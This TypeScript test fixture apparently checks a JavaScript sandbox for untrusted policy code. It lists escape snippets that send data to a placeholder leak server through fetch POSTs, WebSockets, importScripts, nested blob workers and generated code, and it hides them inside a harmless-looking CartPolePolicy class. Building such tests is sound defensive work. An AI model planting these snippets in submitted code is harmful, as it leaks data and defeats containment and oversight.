// Snippets of hostile JavaScript, each the body of an async function. HTTP, WS and APP stand for addresses that carry the
// attack's own mark; what arrives there is written down by the servers.

export interface NetworkAttack {
  readonly name: string;
  readonly code: string;
  /** Where the control has to arrive: our listening server, or the server of the site itself. */
  readonly reaches: 'leak' | 'app';
}

/** Each of these gets through from a plain worker of the site (that is tested as well). */
export const networkAttacks: readonly NetworkAttack[] = [
  { name: 'fetch', code: 'await fetch(HTTP)', reaches: 'leak' },
  { name: 'fetch in no-cors mode', code: "await fetch(HTTP, { mode: 'no-cors' })", reaches: 'leak' },
  { name: 'fetch with POST', code: "await fetch(HTTP, { method: 'POST', body: 'secret' })", reaches: 'leak' },
  { name: 'fetch with keepalive', code: 'await fetch(HTTP, { keepalive: true })', reaches: 'leak' },
  { name: 'fetch of a Request', code: 'await fetch(new Request(HTTP))', reaches: 'leak' },
  {
    name: 'fetch found on the prototype',
    code: "await Reflect.get(Object.getPrototypeOf(self), 'fetch', self).call(self, HTTP)",
    reaches: 'leak',
  },
  {
    name: 'fetch from generated code',
    code: "await new Function('address', 'return fetch(address)')(HTTP)",
    reaches: 'leak',
  },
  {
    name: 'fetch from a timer given as text',
    code: 'setTimeout(`fetch(${JSON.stringify(HTTP)})`); await sleep(200)',
    reaches: 'leak',
  },
  { name: 'fetch of the site', code: 'await fetch(APP)', reaches: 'app' },
  { name: 'fetch of the site without CORS', code: "await fetch(APP, { mode: 'no-cors' })", reaches: 'app' },
  {
    name: 'XMLHttpRequest',
    code: "const x = new XMLHttpRequest(); x.open('GET', HTTP); x.send(); await sleep(300)",
    reaches: 'leak',
  },
  {
    name: 'synchronous XMLHttpRequest',
    code: "const x = new XMLHttpRequest(); x.open('GET', HTTP, false); x.send()",
    reaches: 'leak',
  },
  { name: 'WebSocket', code: 'new WebSocket(WS); await sleep(300)', reaches: 'leak' },
  { name: 'EventSource', code: 'new EventSource(HTTP); await sleep(300)', reaches: 'leak' },
  { name: 'dynamic import', code: "await import(HTTP + '.js')", reaches: 'leak' },
  { name: 'dynamic import of the site', code: 'await import(APP)', reaches: 'app' },
  {
    name: 'dynamic import inside a blob module',
    code: "const text = `import ${JSON.stringify(HTTP + '.js')}`; await import(URL.createObjectURL(new Blob([text], { type: 'text/javascript' })))",
    reaches: 'leak',
  },
  { name: 'importScripts', code: "importScripts(HTTP + '.js')", reaches: 'leak' },
  { name: 'importScripts of the site', code: 'importScripts(APP)', reaches: 'app' },
  {
    name: 'nested worker from a blob',
    code: 'new Worker(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(HTTP)})`]))); await sleep(400)',
    reaches: 'leak',
  },
  {
    name: 'nested module worker from a blob',
    code: "new Worker(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(HTTP)})`], { type: 'text/javascript' })), { type: 'module' }); await sleep(400)",
    reaches: 'leak',
  },
  {
    name: 'nested worker from a data address',
    code: 'new Worker(`data:text/javascript,fetch(${JSON.stringify(HTTP)})`); await sleep(400)',
    reaches: 'leak',
  },
  { name: 'nested worker from the site', code: 'new Worker(APP); await sleep(300)', reaches: 'app' },
  { name: 'streaming compilation', code: 'await WebAssembly.compileStreaming(fetch(HTTP))', reaches: 'leak' },
  { name: 'font loading', code: "await new FontFace('x', `url(${HTTP})`).load()", reaches: 'leak' },
  { name: 'filling a cache', code: "await (await caches.open('x')).add(HTTP)", reaches: 'leak' },
];

/** Not network: each returns 'in' where it gets in, as it does from a plain worker of the site. */
export const storageAttacks: readonly { readonly name: string; readonly code: string }[] = [
  {
    name: 'IndexedDB',
    code: "const q = indexedDB.open('stolen'); await new Promise((ok, no) => { q.onsuccess = ok; q.onerror = () => no(q.error) }); return 'in'",
  },
  { name: 'Cache storage', code: "await caches.open('stolen'); return 'in'" },
  { name: 'private file system', code: "await navigator.storage.getDirectory(); return 'in'" },
  { name: 'web locks', code: "return await navigator.locks.request('stolen', async () => 'in')" },
  {
    name: 'a broadcast channel to the page',
    code: "const c = new BroadcastChannel('page'); const got = new Promise((ok) => { c.onmessage = ok }); c.postMessage('ask'); await Promise.race([got, sleep(500).then(() => { throw 'silence' })]); return 'in'",
  },
  {
    name: "reading the site's own address",
    code: "if (!self.origin.startsWith('http')) throw self.origin; return 'in'",
  },
];

/** Wraps a snippet as the whole script of a classic worker that answers on the port it is first sent. */
export function asWorkerScript(code: string, addresses: Readonly<Record<'HTTP' | 'WS' | 'APP', string>>): string {
  return `
const HTTP = ${JSON.stringify(addresses.HTTP)}, WS = ${JSON.stringify(addresses.WS)}, APP = ${JSON.stringify(addresses.APP)};
const sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
self.onmessage = async (event) => {
  const { port } = event.data;
  let text;
  try { text = String(await (async () => { ${code} })()); } catch (error) { text = 'stopped: ' + error; }
  setTimeout(() => port.postMessage(text), 100);
};`;
}

/** The same snippet as a policy: started in act(), which then keeps the worker alive for a while. */
export function asPolicy(code: string, addresses: Readonly<Record<'HTTP' | 'WS' | 'APP', string>>): string {
  return `
const HTTP = ${JSON.stringify(addresses.HTTP)}, WS = ${JSON.stringify(addresses.WS)}, APP = ${JSON.stringify(addresses.APP)};
const sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
let started = false;
class CartPolePolicy {
  act() {
    if (!started) {
      started = true;
      (async () => { ${code} })().catch(() => {});
      const until = performance.now() + 150;
      while (performance.now() < until);
    }
    return 0;
  }
}`;
}
